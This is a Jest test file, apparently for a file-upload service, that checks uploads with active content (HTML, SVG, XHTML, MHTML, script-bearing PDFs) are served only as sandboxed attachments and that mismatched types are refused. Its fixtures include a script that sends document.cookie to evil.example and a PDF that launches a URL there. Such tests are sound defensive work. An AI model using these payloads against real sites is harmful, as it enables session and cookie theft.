import { genuine, plainZip } from '../fixtures/documents';
import { rawRequest, requestHead, type RawAnswer } from '../support/raw';
import { ApiClient, assertInvariants, TestSystem } from '../support/system';

jest.setTimeout(60_000);

const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
const HTML = `<!doctype html><html><head><title>x</title></head><body onload="alert(1)">${SCRIPT}</body></html>`;
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`;
const MHT = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--x--\r\n`;
const PDF_SCRIPT =
  '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("http://evil.example"))>>>>endobj\n' +
  'trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n';

/** What a browser would run, or think so, under names that the policy takes; and the type that it may go out as. */
const HANDED_OUT: [title: string, name: string, content: string | Buffer, type: string][] = [
  ['HTML', 'page.txt', HTML, 'text/plain'],
  ['HTML in a table', 'page.csv', HTML, 'text/csv'],
  ['HTML in UTF-16', 'wide.txt', Buffer.from(`\ufeff${HTML}`, 'utf16le'), 'text/plain'],
  ['SVG with a script', 'picture.txt', SVG, 'text/plain'],
  ['XHTML', 'page.xhtml.csv', XHTML, 'text/csv'],
  ['JavaScript', 'library.js.txt', 'alert(document.domain)', 'text/plain'],
  ['MHTML', 'page.mht.txt', MHT, 'text/plain'],
  ['a PDF with a script', 'form.pdf', PDF_SCRIPT, 'application/pdf'],
  ['a PDF', 'letter.pdf', genuine('letter.pdf'), 'application/pdf'],
  ['a picture', 'picture.png', genuine('picture.png'), 'image/png'],
  ['an archive', 'page.html.zip', plainZip(), 'application/zip'],
];

/** The same under a name that is none of the policy's, or is not what it says. */
const REFUSED: [title: string, name: string, type: string, content: string][] = [
  ['MHTML named pdf', 'page.pdf', 'application/pdf', MHT],
  ['HTML named pdf', 'page.pdf', 'application/octet-stream', HTML],
  ['SVG named png', 'picture.png', 'image/png', SVG],
  ['HTML named html', 'page.html', 'text/html', HTML],
  ['SVG named svg', 'picture.svg', 'image/svg+xml', SVG],
  ['HTML named txt and declared as HTML', 'page.txt', 'text/html', HTML],
  ['XHTML named csv and declared as XHTML', 'page.csv', 'application/xhtml+xml', XHTML],
  ['SVG named txt and declared as SVG', 'picture.txt', 'image/svg+xml; charset=utf-8', SVG],
];

const WAYS: [title: string, query: string, headers: [string, string][]][] = [
  ['plainly', '', []],
  ['with ?inline=1', '?inline=1', []],
  ['with ?preview', '?preview', []],
  ['with ?disposition=inline', '?disposition=inline&download=false&view=1', []],
  ['as S3 would be told', '?response-content-type=text%2Fhtml&response-content-disposition=inline', []],
  ['with a file name', '?filename=page.html&name=page.html', []],
  [
    'as a page',
    '',
    [
      ['Accept', 'text/html,application/xhtml+xml'],
      ['Sec-Fetch-Dest', 'document'],
      ['Sec-Fetch-Mode', 'navigate'],
    ],
  ],
  [
    'as a frame',
    '?inline=1',
    [
      ['Accept', 'text/html'],
      ['Sec-Fetch-Dest', 'iframe'],
    ],
  ],
  [
    'as a picture',
    '',
    [
      ['Accept', 'image/svg+xml'],
      ['Sec-Fetch-Dest', 'image'],
    ],
  ],
  [
    'as a script of another site',
    '',
    [
      ['Origin', 'https://evil.example'],
      ['Sec-Fetch-Dest', 'script'],
    ],
  ],
  ['in part', '', [['Range', 'bytes=0-9']]],
  ['by HEAD', '?inline=1', [['Accept', 'text/html']]],
];

let system: TestSystem;
let ops: ApiClient;
const fileIds = new Map<string, string>();

beforeAll(async () => {
  system = await TestSystem.start({ env: { UPLOAD_DOCUMENT_TYPES: 'txt,csv,pdf,png,zip' } });
  ops = await system.client('ops');
  await Promise.all(
    HANDED_OUT.map(async ([title, name, content]) => {
      const bytes = Buffer.from(content);
      const { fileId } = await ops.uploadAndWait(bytes, { name, type: 'application/octet-stream' });
      fileIds.set(title, fileId);
    }),
  );
}, 60_000);
afterAll(() => system?.stop(), 30_000);

async function ask(method: string, path: string, headers: [string, string][]): Promise<RawAnswer> {
  const head = requestHead(`${method} ${path}`, [['Host', 'waybill.test'], ...headers]);
  return (await rawRequest(system.url, head))!;
}

function expectHarmless(answer: RawAnswer, type: string): void {
  const only = (name: string): string => {
    expect([name, answer.all(name).length]).toEqual([name, 1]);
    return answer.all(name)[0]!;
  };
  expect(only('Content-Disposition')).toMatch(/^attachment; /);
  expect([type, 'application/octet-stream']).toContain(only('Content-Type'));
  expect(only('X-Content-Type-Options')).toBe('nosniff');
  const policy = only('Content-Security-Policy')
    .split(';')
    .map((directive) => directive.trim());
  expect(policy).toEqual(expect.arrayContaining(['sandbox', "default-src 'none'"]));
  expect(only('Cross-Origin-Resource-Policy')).toBe('same-origin');
  expect(only('Cache-Control')).toBe('private, no-store');
  expect(only('Referrer-Policy')).toBe('no-referrer');
  expect(answer.all('Access-Control-Allow-Origin')).toEqual([]);
  expect(answer.all('Content-Encoding')).toEqual([]);
  expect(answer.all('Set-Cookie')).toEqual([]);
}

describe.each(HANDED_OUT)('%s', (title, _name, content, type) => {
  it.each(WAYS)('L10 asked for %s is an attachment that nobody runs', async (way, query, headers) => {
    const method = way === 'by HEAD' ? 'HEAD' : 'GET';
    const fileId = fileIds.get(title)!;
    const link = await ops.downloadLink(fileId);
    const owner: [string, string] = ['Authorization', `Bearer ${ops.token}`];
    for (const [path, extra] of [
      [link, []],
      [`/api/files/${fileId}/content`, [owner]],
    ] as const) {
      const answer = await ask(method, path + query, [...headers, ...extra]);
      const whole = Buffer.from(content);
      const part = headers.some(([name]) => name === 'Range');
      expect(answer.status).toBe(part ? 206 : 200);
      const expected = part ? whole.subarray(0, 10) : whole;
      if (method === 'GET') expect(answer.body.equals(expected)).toBe(true);
      expectHarmless(answer, type);
    }
  });
});

describe('what is refused at the door', () => {
  it.each(REFUSED)('L10 %s', async (_title, name, type, content) => {
    const answer = await ops.upload(Buffer.from(content), { name, type });
    expect([answer.status, answer.body.code]).toEqual([
      415,
      expect.stringMatching(/^(CONTENT_MISMATCH|UNSUPPORTED_FILE_TYPE)$/),
    ]);
  });

  it('L10 leaves no file behind', async () => {
    const [row] = await system.query('SELECT count(*)::int AS n FROM files');
    expect(row.n).toBe(HANDED_OUT.length);
    await assertInvariants(system);
  });
});
